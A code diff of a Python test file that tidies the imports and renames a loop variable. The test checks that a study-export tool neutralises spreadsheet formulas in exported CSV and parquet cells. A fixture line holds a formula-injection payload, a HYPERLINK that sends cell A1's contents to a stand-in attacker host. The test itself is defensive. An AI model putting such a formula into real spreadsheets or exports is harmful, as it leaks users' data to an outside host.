@@ -8,14 +8,14 @@ import pandas as pd
 import pytest
 from sqlalchemy import select
 
-from hitkit.tables import cells
-from hitkit.worker import admission, flow
-from hitkit.study.config import load_study
 from hitkit.db.models import Hit, Study
 from hitkit.db.session import session_scope
-from hitkit.tables.export import export_study
 from hitkit.running.scheduler import tick
+from hitkit.study.config import load_study
 from hitkit.study.stored import create_study, resolve_secret
+from hitkit.tables import cells
+from hitkit.tables.export import export_study
+from hitkit.worker import admission, flow
 from tests.studies import pairwise_study
 
 HOSTILE_WORKER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -55,7 +55,7 @@ def test_no_exported_text_cell_starts_a_formula_and_numbers_stay_numbers(tmp_pat
                     assert cell[:1] not in cells.FORMULA_TRIGGERS or cells.neutralise_formula(cell) == cell, \
                         (path.name, cell)
     for path in (p for p in written if p.suffix == ".parquet"):
-        for column, values in pd.read_parquet(path).items():
+        for _column, values in pd.read_parquet(path).items():
             for value in values:
                 assert not (isinstance(value, str) and cells.neutralise_formula(value) != value), (path.name, value)
     feedback = pd.read_parquet(tmp_path / "export" / "feedback.parquet")
